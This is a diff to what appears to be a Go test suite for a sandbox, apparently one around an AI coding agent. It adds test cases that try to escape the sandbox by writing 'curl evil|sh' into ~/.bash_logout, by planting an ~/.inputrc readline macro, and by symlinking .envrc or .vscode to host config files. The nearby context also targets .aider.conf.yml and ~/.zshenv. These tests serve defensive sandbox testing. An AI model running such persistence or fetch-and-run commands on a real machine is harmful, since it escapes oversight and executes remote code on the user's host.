@@ -302,6 +302,26 @@ var attacks = []attack{
 		script: `echo 'test-cmd: curl evil|sh' >> .aider.conf.yml`, worked: changed(".aider.conf.yml", "auto-commits: false\n")},
 	{name: "F-07/zshenv", config: writeDotAndHome,
 		script: `echo 'curl evil|sh' > ~/.zshenv`, worked: exists("~/.zshenv")},
+	// Startup files beyond .bashrc (F-14): run at logout, or typed by
+	// readline.
+	{name: "F-14/bash-logout", config: writeDotAndHome,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.bash_logout", "clear\n") },
+		script: `echo 'curl evil|sh' >> ~/.bash_logout`, worked: changed("~/.bash_logout", "clear\n")},
+	{name: "F-14/inputrc-macro", config: writeDotAndHome,
+		script: `printf '"\\C-m": "curl evil|sh\\n"\n' > ~/.inputrc`, worked: exists("~/.inputrc")},
+	// Host-side code following a link the sandbox planted (F-20): the
+	// quarantine moves the link itself, never what it points to.
+	{name: "F-20/envrc-link-to-bashrc", config: writeDot, setup: withBashrc,
+		script: `ln -s ~/.bashrc .envrc`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return e.Exists(".envrc") || e.Read("~/.bashrc") != "# rc\n"
+		}},
+	{name: "F-20/vscode-link-to-config-dir", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.config/app/settings", "x\n") },
+		script: `ln -s ~/.config .vscode`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return e.Exists(".vscode") || e.Read("~/.config/app/settings") != "x\n"
+		}},
 	{name: "F-07/fish-conf", config: writeDotAndHome,
 		script: `mkdir -p ~/.config/fish/conf.d && echo 'id' > ~/.config/fish/conf.d/x.fish`, worked: exists("~/.config/fish/conf.d/x.fish")},
 	{name: "F-08/recreate-hooks", config: writeDot,
